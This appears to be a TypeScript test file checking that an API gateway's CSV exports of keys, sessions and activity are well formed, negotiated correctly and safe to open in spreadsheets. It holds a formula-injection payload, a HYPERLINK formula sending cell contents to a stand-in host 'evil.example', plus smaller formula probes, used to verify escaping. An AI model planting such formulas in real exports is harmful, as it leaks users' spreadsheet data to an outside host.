/** Lists of the management API as CSV, over real sockets: form, safety in spreadsheets, long lists. */
import { connect } from 'node:net'
import t, { type Test } from 'tap'
import { type Clock, systemClock } from '../../src/core/clock.ts'
import type { Json, JsonObject } from '../../src/core/json.ts'
import type { FakeClock } from '../support/clock.ts'
import { eventually } from '../support/eventually.ts'
import { every } from '../support/every.ts'
import { list, object } from '../support/fold.ts'
import { oneModel } from '../support/gateway.ts'
import { type Scene, startScene } from '../support/scene.ts'

const APP = 'sk-router-v1-app00000000000000000000000'
const BOSS = 'sk-router-v1-boss0000000000000000000000'
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
const KEYS = `auth: { keys: [ { name: app, key: "${APP}" }, { name: boss, key: "${BOSS}", management: true } ] }`

const PATHS = ['/v1/activity', '/v1/activity/keys', '/v1/generations', '/v1/sessions', '/v1/keys']

/** Lines of RFC 4180. */
function parsed(text: string): string[][] {
  const lines: string[][] = []
  let cells: string[] = []
  for (const [whole, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    if (whole === '') break
    cells.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
    if (end === ',') continue
    lines.push(cells)
    cells = []
  }
  return lines
}

async function begin<SomeClock extends Clock = FakeClock>(t: Test, clock?: SomeClock) {
  const scene = await startScene<SomeClock>(t, { clock, config: (url) => `${KEYS}\n${oneModel(url, 'openai-chat')}` })
  const get = (path: string, headers: Record<string, string> = {}, key = BOSS) =>
    scene.gateway.get(path, { authorization: `Bearer ${key}`, ...headers })
  const table = async (path: string): Promise<JsonObject[]> => {
    const [header = [], ...rows] = parsed(await (await get(path)).text())
    return rows.map((row) => Object.fromEntries(header.map((name, at) => [name, row[at] ?? ''])))
  }
  await scene.gateway.post('/v1/keys', { name: FORMULA }, { authorization: `Bearer ${BOSS}` })
  return { scene, get, table }
}

async function say(scene: Scene, session: string): Promise<void> {
  await scene.clock.advance(61_000)
  await (await scene.ask({ session_id: session }, 'chat', { authorization: `Bearer ${APP}` })).text()
}

const asCell = (value: Json | undefined): string => {
  const text = value === null || value === undefined ? '' : Array.isArray(value) ? value.join(' ') : String(value)
  return typeof value === 'string' && /^[=+\-@\t\r\n]/.test(text) ? `'${text}` : text
}

t.test('each list has the rows of its JSON, under one header', async (t) => {
  const { scene, get, table } = await begin(t)
  const sessions = ['plain', '=1+1', '+1', '-1', '@SUM(A1)', '\tx', 'a;=1+1', 'b\t=1', 'a "b", c', 'two\r\nlines', 'ünï']
  for (const session of sessions) await say(scene, session)
  await scene.clock.advance(2 * 86_400_000)
  await say(scene, 'today')
  await every(t, 'every list', async (t) => {
    for (const path of PATHS) {
      const query = path === '/v1/sessions' ? 'since=2026-01-01T00:00:00Z' : 'limit=200'
      const reply = await get(`${path}?${query}&format=csv`)
      t.equal(reply.status, 200, path)
      t.equal(reply.headers.get('content-type'), 'text/csv; charset=utf-8; header=present', path)
      t.match(reply.headers.get('content-disposition'), /^attachment; filename="[a-z-]+-2026-01-\d\d\.csv"$/, path)
      const rows = await table(`${path}?${query}&format=csv`)
      const entries = list(object((await (await get(`${path}?${query}`)).json()) as JsonObject).data).map(object)
      t.ok(entries.length > 0, path)
      t.equal(rows.length, entries.length, path)
      for (const [at, entry] of entries.entries()) {
        const row = rows[at] ?? {}
        for (const name of Object.keys(row)) t.equal(row[name], asCell(entry[name]), `${path} ${name}`)
      }
      const hidden = Object.keys(entries[0] ?? {}).filter((name) => !(name in (rows[0] ?? {})))
      t.ok(
        hidden.every((name) =>
          /^(byok|include_byok|workspace|external|organization|member|reach|scopes|allowed_models|provider|limits|default_max_output|pass_through|error_code|capture_content|tags|previous)/.test(
            name,
          ),
        ),
        `${path}: nothing is left out but ${hidden.join()}`,
      )
    }
  })
  const text = await (await get('/v1/sessions?since=2026-01-01T00:00:00Z&format=csv')).text()
  t.notMatch(text, /(^|[,"\n])[=+@\t-]/m, 'no text begins a formula')
  t.match(await (await get('/v1/keys?format=csv')).text(), `"'${FORMULA.replaceAll('"', '""')}"`)
  t.match(text, /"two\r\nlines"/)
  for (const cell of ['"a;=1+1"', '"b\t=1"']) t.ok(text.includes(cell), 'one cell, whatever separates them')
  t.same((await table('/v1/activity?format=csv')).length, 1, 'today is not over')
})

t.test('an Accept header wants it, and JSON stays what others get', async (t) => {
  const { get } = await begin(t)
  const replyType = async (accept: string, query = '') =>
    String((await get(`/v1/keys${query}`, { accept })).headers.get('content-type')).split(';')[0]
  const cases: [string, string, string?][] = [
    ['text/csv', 'text/csv'],
    ['text/csv, application/json;q=0.5', 'text/csv'],
    ['application/json, text/csv;q=0.9', 'application/json'],
    ['*/*', 'application/json'],
    ['text/html,application/xhtml+xml,*/*;q=0.8', 'application/json'],
    ['text/csv;q=0', 'application/json'],
    ['text/csv', 'application/json', '?format=json'],
    ['application/json', 'text/csv', '?format=csv'],
    [`${'a/b,'.repeat(2_000)}text/csv`, 'application/json'],
  ]
  for (const [accept, type, query] of cases) t.equal(await replyType(accept, query), type, `${accept.slice(0, 50)} ${query}`)
  t.equal((await get('/v1/credits?format=csv')).headers.get('content-type'), 'application/json', 'others have no such form')
})

t.test('what is wrong is an ordinary error', async (t) => {
  const { get } = await begin(t)
  const cases: [string, number, string?][] = [
    ['/v1/keys?format=xml', 400],
    ['/v1/generations?format=csv&limit=0', 400],
    ['/v1/generations?format=csv&status=fine', 400],
    ['/v1/sessions?format=csv&since=yesterday', 400],
    ['/v1/keys?format=csv', 403, APP],
    ['/v1/keys?format=csv', 401, `${APP}x`],
  ]
  for (const [path, status, key] of cases) {
    const reply = await get(path, {}, key)
    t.equal(reply.status, status, path)
    t.match(await reply.json(), { error: { code: status } }, path)
  }
  const head = await fetch(`${(await begin(t)).scene.gateway.url}/v1/keys?format=csv`, {
    method: 'HEAD',
    headers: { authorization: `Bearer ${BOSS}` },
  })
  t.match(head.headers.get('content-type'), 'text/csv')
  t.equal(await head.text(), '')
})

t.test('a long list comes whole, also where several are read at once, and stops where the caller leaves', async (t) => {
  // What waits for the ledger does so on the clock.
  const { scene, get } = await begin(t, systemClock)
  await (await scene.ask({}, 'chat', { authorization: `Bearer ${APP}` })).text()
  const { journal } = scene.gateway.running.store
  const { hold } = scene.rows()[0] ?? {}
  const key = hold?.key ?? ''
  const counts = { input: 10, output: 5, cached: 0, cacheWrite: 0, reasoning: 0, estimated: false, facts: '{}' }
  for (let i = 1; i < 1_500; i++) {
    const seq = (hold?.seq ?? 0) + i
    journal.hold({ seq, tag: `tag${String(i).padStart(9, '0')}`, key, model: 'acme/one', endpoint: 'e', hold: 5, floor: 1 })
    journal.settle({ seq, status: 'completed', cost: 4, at: 1, ...counts })
  }
  await journal.committed()
  const lines = async (query: string) => parsed(await (await get(`/v1/generations?format=csv${query}`)).text()).length - 1
  t.equal(await lines('&limit=1001'), 1001)
  const done = await Promise.all(Array.from({ length: 6 }, () => lines('')))
  t.same(new Set(done), new Set([1_500]))

  const { hostname, port } = new URL(scene.gateway.url)
  const socket = connect(Number(port), hostname)
  socket.write(`GET /v1/generations?format=csv HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${BOSS}\r\n\r\n`)
  await new Promise((resolve) => socket.once('data', resolve))
  socket.destroy()
  await eventually('the gateway searches again', async () => (await get('/v1/generations?limit=1')).status === 200)
  t.equal(await lines('&limit=5'), 5, 'and the gateway goes on')
})
